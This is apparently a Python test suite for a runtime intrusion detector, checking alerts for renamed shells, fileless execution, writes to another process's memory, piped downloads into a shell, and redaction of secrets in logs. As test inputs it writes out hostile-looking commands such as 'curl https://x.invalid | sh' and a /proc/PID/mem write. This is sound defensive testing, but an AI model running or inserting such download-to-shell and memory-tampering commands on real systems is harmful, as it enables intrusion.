"""What the detector can say only of what really runs: copies under another name, pipes between separate commands."""

import json
import os
import pathlib
import shutil
import subprocess
import unittest

from hanging import silent_file
from harness import program, watch
from kernel_case import KernelCase

BUSYBOX = pathlib.Path("/bin/busybox")
KEY = "sk-ant-api03-" + "Zq7" * 20
SECRET = "correcthorse7battery"


class Detect(KernelCase):
    def alerts(self, argv, wanted, **popen):
        """Runs it watched; its alerts, and what else comes until one is `wanted`."""
        with watch(self.daemon, list(map(str, argv)), **popen) as watched:
            watched.run()
            return watched.stream.wait_for(
                lambda e: e["type"] == "alert" and e["alert"].get("rule") == wanted[1] and e["process"]["exe"].endswith(wanted[0]),
                20, f"the alert {wanted}"), list(watched.stream.events)

    def copy(self, source, name):
        path = self.folder / name
        shutil.copy(source, path)
        path.chmod(0o755)
        return path

    def test_renamed_shell(self):
        """detect: a copy of bash under another name is a second alert, as a shell, about the exec it was"""
        notes = self.copy(os.path.realpath("/bin/bash"), "notes")
        for script in ("true", "/bin/true; exit 3", "exec /bin/true"):
            with self.subTest(script):
                alert, events = self.alerts([notes, "-c", script], ("/notes", "renamed-shell"))
                self.assertEqual(("shell", "warning"), (alert["alert"]["class"], alert["alert"]["severity"]))
                cause = next(e for e in events if e["seq"] == alert["alert"]["cause_seq"])
                self.assertEqual(("exec", [str(notes), "-c", script]), (cause["type"], cause["exec"]["argv"]))
                self.assertEqual(cause["exec"]["argv"], alert["alert"]["ancestry"][0]["argv"])
                self.assertEqual(cause["process"]["id"], alert["process"]["id"])
                self.assertIn("exec-from-temp", [e["alert"]["class"] for e in events if e["type"] == "alert"])

    def test_silent_program(self):
        """detect: who executes a file that nobody answers for blinds nobody: a copy of bash beside it is told"""
        silent = silent_file(self, self.folder / "silent", pathlib.Path(program("tiny")).read_bytes(), opens=1)
        notes = self.copy(os.path.realpath("/bin/bash"), "notes")
        self.alerts(["/bin/sh", "-c", f"{silent.path}/file 0; {notes} -c true"], ("/notes", "renamed-shell"))
        self.assertTrue(silent.asked.is_set(), "nobody asked it: this proves nothing")

    def test_renamed_shell_that_downloads(self):
        """detect: what a renamed shell is told to do is judged as a shell's"""
        notes = self.copy(os.path.realpath("/bin/bash"), "notes")
        alert, _ = self.alerts([notes, "-c", "false && curl https://x.invalid | sh"], ("/notes", "download-to-shell"))
        self.assertEqual("critical", alert["alert"]["severity"])

    @unittest.skipUnless(BUSYBOX.exists(), "there is no busybox (package busybox-static)")
    def test_renamed_busybox(self):
        """detect: a static busybox under another name is known too"""
        tool = self.copy(BUSYBOX, "tool")
        alert, _ = self.alerts([tool, "sh", "-c", "true"], ("/tool", "renamed-shell"))
        self.assertEqual(("shell-injection", "shell"), (alert["alert"]["kind"], alert["alert"]["class"]))

    def test_other_programs(self):
        """detect: a copy of a program that is no shell, and a script, are no second alert"""
        tool = self.copy(program("tiny"), "tool")
        script = self.folder / "script"
        script.write_text("#!/bin/sh\nexit 0\n")
        script.chmod(0o755)
        with watch(self.daemon, ["/bin/sh", "-c", f"{tool} 0; {script}"]) as watched:
            watched.run()
            seen = watched.stream.until_quiet()
        rules = [e["alert"]["rule"] for e in seen if e["type"] == "alert"]
        self.assertNotIn("renamed-shell", rules)
        self.assertIn("temp", rules)

    def test_from_nowhere(self):
        """detect: a program in memory only, one whose file is gone, and one of O_TMPFILE are fileless-exec"""
        for way in ("memfd", "deleted", "tmpfile"):
            with self.subTest(way), watch(self.daemon, [program("exec_nameless"), way, program("tiny"), self.folder]) as watched:
                events = watched.run()
                found = [(e["alert"]["class"], e["alert"]["severity"]) for e in events if e["type"] == "alert"]
                self.assertIn(("fileless-exec", "critical"), found)

    def test_memory_of_another_process(self):
        """detect: a program of its own that opens another process's memory to write is an escape, by its file event"""
        script = "/bin/sleep 20 & exec 3<>/proc/$!/mem; kill $!"
        with watch(self.daemon, ["/bin/sh", self.script(script)]) as watched:
            events = watched.run()
        found = [e["alert"] for e in events if e["type"] == "alert" and e["alert"].get("class") == "escape"]
        self.assertEqual([("sensitive-path", "critical")], [(alert["kind"], alert["severity"]) for alert in found])

    def script(self, text):
        path = self.folder / "script.sh"
        path.write_text(text + "\n")
        return path

    def test_journal(self):
        """detect: the log tells of an alert with executable, ids, class and rule's sentence, never with arguments"""
        secret = "hunter" + str(os.getpid())
        with watch(self.daemon, ["/bin/sh", "-c", f"false && curl https://x.invalid/{secret} | sh"]) as watched:
            events = watched.run()
        alert = next(e for e in events if e["type"] == "alert" and e["alert"]["class"] == "pipe-to-shell")
        told = [line for line in self.daemon.errors().splitlines() if alert["process"]["id"] in line and "pipe-to-shell" in line]
        self.assertEqual(1, len(told), self.daemon.errors())
        for part in (alert["process"]["exe"], alert["alert"]["summary"], f"seq {alert['seq']}"):
            self.assertIn(part, told[0])
        self.assertNotIn(secret, self.daemon.errors())

    def told_of(self, argv):
        """The events of a program that was run, and all that was told of it: with its tree and the log."""
        with watch(self.daemon, list(map(str, argv))) as watched:
            events = watched.run()
            tree = self.daemon.tree(watched.target)
        self.assertTrue(tree)
        return events, json.dumps(events) + repr(tree) + self.daemon.errors()

    def test_secrets_in_ancestry(self):
        """detect: an alert's ancestry has no secret of the program's arguments and of its parents', nor has anything else that is told"""
        script = f"false && curl -H 'X-Api-Key: {SECRET}' https://x.invalid | sh"
        events, told = self.told_of(["/bin/sh", "-c", '/bin/sh -c "$1"; true', "sh", script, KEY])
        ancestry = next(e["alert"]["ancestry"] for e in events if e["type"] == "alert" and e["process"]["image"] == 2)
        hidden, key = script.replace(SECRET, "*" * len(SECRET)), KEY[:7] + "*" * (len(KEY) - 7)
        self.assertEqual([["/bin/sh", "-c", hidden], ["/bin/sh", "-c", '/bin/sh -c "$1"; true', "sh", hidden, key]],
                         [one["argv"] for one in ancestry[:2]])
        for part in (KEY[20:], SECRET):
            self.assertNotIn(part, told)

    def test_secrets_in_scripts(self):
        """detect: of what a script gives to curl no password is told, neither as the script's nor as curl's arguments"""
        curl = self.copy("/bin/true", "curl")
        for line in (f"-u me:{SECRET}", f"-sSume:{SECRET}", f"--user 'me:{SECRET}'", f"-b session={SECRET}", f"--oauth2-bearer {SECRET}",
                     f"-H 'Authorization: {SECRET}'", f"https://me:{SECRET}@x.invalid"):
            with self.subTest(line):
                script = f"{curl} {line} https://x.invalid; true"
                events, told = self.told_of(["/bin/bash", "-c", script])
                shell, called = [e["exec"]["argv"] for e in events if e["type"] == "exec"]
                hidden = line.replace(SECRET, "*" * len(SECRET))
                self.assertEqual(script.replace(line, hidden), shell[2])
                self.assertEqual(" ".join(called[1:-1]), hidden.replace("'", ""))
                self.assertNotIn(SECRET, told)

    def typed(self, line):
        """A shell that reads commands as from somebody who types them: the line is in nobody's argv."""
        commands = self.folder / "commands"
        commands.write_text(line + "\n")
        return commands.open("rb")

    def test_pipe_between_commands(self):
        """detect: a download piped into a shell by a line that no argv holds is pipe-to-shell, whichever starts first"""
        curl = self.copy("/bin/cat", "curl")
        payload = self.folder / "payload"
        payload.write_text("exit 0\n")
        for line in (f"{curl} {payload} | sh", f"{curl} {payload} | tee /dev/null | bash -s x",
                     f"(sleep 0.2; exec {curl} {payload}) | sh", f"{curl} {payload} | (sleep 0.2; exec sh)"):
            with self.subTest(line), self.typed(line) as commands:
                with watch(self.daemon, ["/bin/bash"], stdin=commands, stdout=subprocess.DEVNULL) as watched:
                    events = watched.run()
                found = [e for e in events if e["type"] == "alert" and e["alert"].get("class") == "pipe-to-shell"]
                self.assertEqual(1, len(found), [e.get("alert") for e in events if e["type"] == "alert"])
                self.assertEqual("critical", found[0]["alert"]["severity"])
                cause = next(e for e in events if e["seq"] == found[0]["alert"]["cause_seq"])
                self.assertIn(os.path.basename(cause["process"]["exe"]), ("sh", "dash", "bash"))

    def test_named_pipe(self):
        """detect: a named pipe joins them too"""
        curl = self.copy("/bin/cat", "curl")
        payload = self.folder / "payload"
        payload.write_text("exit 0\n")
        fifo = self.folder / "fifo"
        os.mkfifo(fifo)
        with self.typed(f"{curl} {payload} > {fifo} & sh < {fifo}; wait") as commands:
            with watch(self.daemon, ["/bin/bash"], stdin=commands) as watched:
                events = watched.run()
        self.assertIn("pipe-to-shell", [e["alert"]["class"] for e in events if e["type"] == "alert"])

    def test_harmless_pipes(self):
        """detect: a download piped into something that runs nothing of it, and a shell beside it, are no pipe-to-shell"""
        curl = self.copy("/bin/cat", "curl")
        script = self.folder / "build.sh"
        script.write_text("exit 0\n")
        with self.typed(f"{curl} {script} | wc -l\n{curl} {script} | sh {script}\necho | sh\n{curl} {script} > x; sh {script}") as commands:
            with watch(self.daemon, ["/bin/bash"], stdin=commands, cwd=self.folder) as watched:
                events = watched.run()
        kinds = [e["alert"]["class"] for e in events if e["type"] == "alert"]
        self.assertNotIn("pipe-to-shell", kinds)
        self.assertIn("shell", kinds)


if __name__ == "__main__":
    unittest.main()
